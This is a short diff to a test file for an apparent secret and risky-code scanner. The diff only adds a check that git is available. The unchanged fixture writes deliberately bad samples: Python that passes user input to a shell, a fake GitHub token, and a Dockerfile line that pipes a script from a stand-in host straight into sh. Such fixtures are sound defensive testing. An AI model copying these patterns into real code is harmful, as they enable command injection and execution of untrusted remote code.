@@ -17,6 +17,7 @@ from tasks.result_cache import ResultCache
 from tasks.scan import leaks, modes, risky_code
 from tasks.scan.look import Progress, look_at_home, scan_checkout
 from tasks.scan.looked import Looked, together
+from tests.programs import require
 from tests.scan.corpus import SECRETS, Maker
 
 TOKEN = SECRETS["GitHub"](Maker(1))
@@ -29,6 +30,7 @@ def root(tmp_path: Path) -> Path:
     root.mkdir()
     (root / "a.py").write_text(f"import subprocess\nsubprocess.run(input(), shell=True)\ntoken = '{TOKEN}'\n")
     (root / "Dockerfile").write_text("FROM python:latest\nRUN curl http://x.example/i.sh | sh\n")
+    require("git")
     subprocess.run(["git", "init", "-q", str(root)], check=True)
     return root
 
